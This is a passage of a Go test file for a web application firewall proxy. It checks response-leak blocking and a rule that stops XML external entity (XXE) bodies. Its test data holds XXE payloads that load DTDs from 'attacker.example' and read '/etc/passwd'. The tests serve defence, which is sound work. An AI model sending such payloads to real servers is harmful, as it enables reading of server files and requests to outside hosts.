		{"leak inside the limit", Profile{Action: wafrule.Block, InspectResponses: true, BodyLimit: 8192}, "/leak/php?pad=4096", 405, "block", "953"},
		{"compressed", Profile{Action: wafrule.Block, InspectResponses: true}, "/leak/php?encoding=br", 200, "pass", ""},
		{"not inspected", Profile{Action: wafrule.Block}, "/leak/php", 200, "pass", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, front, sink := startProxy(t, Policy{Profile: tc.profile})
			tr := &http.Transport{DisableCompression: true}
			defer tr.CloseIdleConnections()
			resp, body := do(t, &http.Client{Transport: tr}, "GET", front.URL+tc.target, "", h)
			rec := sink.last()
			if resp.StatusCode != tc.status || rec.Action != tc.action || rec.Status != tc.status {
				t.Fatalf("status %d, log %+v; want %d, %s", resp.StatusCode, rec, tc.status, tc.action)
			}
			if tc.rule != "" && (rec.Module != "crs" || !slices.ContainsFunc(rec.RuleIDs, func(id string) bool { return strings.HasPrefix(id, tc.rule) })) {
				t.Errorf("log names %s %v, want a %sxxx rule", rec.Module, rec.RuleIDs, tc.rule)
			}
			if tc.status == 405 {
				if strings.Contains(body, "php") || strings.Contains(body, "SQL") || strings.Contains(body, "java") {
					t.Errorf("blocked answer leaks: %q", body)
				}
				return
			}
			kind, _, _ := strings.Cut(strings.TrimPrefix(tc.target, "/leak/"), "?")
			if !strings.HasSuffix(body, leaks[kind]) {
				t.Errorf("answer not passed whole: %d bytes, ends %q", len(body), body[max(0, len(body)-40):])
			}
		})
	}
}

// TestRawXMLEntity: an external entity or DTD in a raw XML body (which
// Coraza's XML processor hides from every SecLang rule) is rule 99102;
// plain XML passes, and the rule can be excluded like a CRS rule.
func TestRawXMLEntity(t *testing.T) {
	h := func(ct string) map[string]string {
		return map[string]string{"User-Agent": "Mozilla/5.0 test", "Accept": "*/*", "Content-Type": ct}
	}
	for _, tc := range []struct {
		name, ct, body string
		exclude        bool
		status         int
	}{
		{"external DTD, application/xml", "application/xml", `<?xml version="1.0"?><!DOCTYPE order SYSTEM "http://attacker.example/evil.dtd"><order><id>1</id></order>`, false, 405},
		{"parameter entity, text/xml", "text/xml", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]><r/>`, false, 405},
		{"external entity, text/plain", "text/plain", `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>1</r>`, false, 405},
		{"plain XML", "application/xml", `<?xml version="1.0"?><order><id>1</id><note>two &lt; three</note></order>`, false, 200},
		{"excluded", "application/xml", `<?xml version="1.0"?><!DOCTYPE order SYSTEM "http://attacker.example/evil.dtd"><order><id>1</id></order>`, true, 200},
	} {
		t.Run(tc.name, func(t *testing.T) {
			p := Profile{Action: wafrule.Block}
			if tc.exclude {
				p.ExcludeRuleIDs = []int{RawXMLEntityRule}
			}
			_, front, sink := startProxy(t, Policy{Profile: p})
			resp, _ := do(t, front.Client(), "POST", front.URL+"/api/orders", tc.body, h(tc.ct))
			rec := sink.last()
			if resp.StatusCode != tc.status {
				t.Fatalf("status %d, want %d; log %+v", resp.StatusCode, tc.status, rec)
			}
			if named := slices.Contains(rec.RuleIDs, "99102"); named != (tc.status == 405) {
				t.Errorf("log %+v: rule 99102 named %v", rec, named)
			}
		})
	}
}
